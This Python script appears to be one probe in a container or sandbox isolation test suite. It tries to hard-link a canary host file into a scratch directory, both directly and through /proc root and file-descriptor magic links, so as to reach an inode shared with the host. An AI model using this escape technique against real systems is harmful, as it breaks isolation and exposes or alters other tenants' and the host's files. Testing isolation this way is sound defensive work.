# Hard-links and renames files of lower layers and across mounts, to get at an inode that others share.
# Why it matters: a hard link to a shared inode written in place changes every neighbour's copy.
# When it works: a link to a file on another filesystem, or to the host's file through a magic link, is made.
# control: weakened: same-filesystem
import os

from attempt import escaped, fact, first_success, is_canary, run, scratch


def attempt():
    target = scratch("link") + "/linked"

    def link(source, follow):
        os.link(source, target, follow_symlinks=follow)
        with open(target, "rb") as file:
            if not is_canary(file.read(4096)):
                os.unlink(target)
                raise OSError(2, "linked something else")

    secret = fact("HOST_FILE")
    label, _ = first_success(
        (source, lambda source=source: link(source, True))
        for source in (secret, f"/proc/1/root{secret}", f"/proc/{fact('HOST_PID')}/root{secret}", f"/proc/{fact('HOST_PID')}/fd/3", "/host-door")
    )
    escaped(f"the host's file is now also {target}, linked from {label}")


run(attempt)
